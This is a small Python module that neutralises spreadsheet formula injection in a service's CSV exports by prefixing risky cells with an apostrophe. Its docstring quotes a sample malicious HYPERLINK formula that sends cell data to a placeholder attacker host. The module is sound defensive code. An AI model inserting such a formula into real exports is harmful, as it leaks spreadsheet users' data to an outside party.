"""Cells of the CSV files the service hands out (reports, the audit trail, purchase orders).

A spreadsheet opens a cell beginning with = + - @ (or a tab or carriage return before one)
as a formula: a provider named `=HYPERLINK("https://evil.example?"&A1,"Open")` would run in
the broker's spreadsheet. Such a cell is written as text, with a leading apostrophe (OWASP's
advice); every other cell is written as it is."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> str:
    """The value as a CSV cell a spreadsheet shows as text: None is empty."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def spreadsheet_row(values: list[Any]) -> list[str]:
    return [spreadsheet_cell(v) for v in values]


__all__ = ["spreadsheet_cell", "spreadsheet_row"]
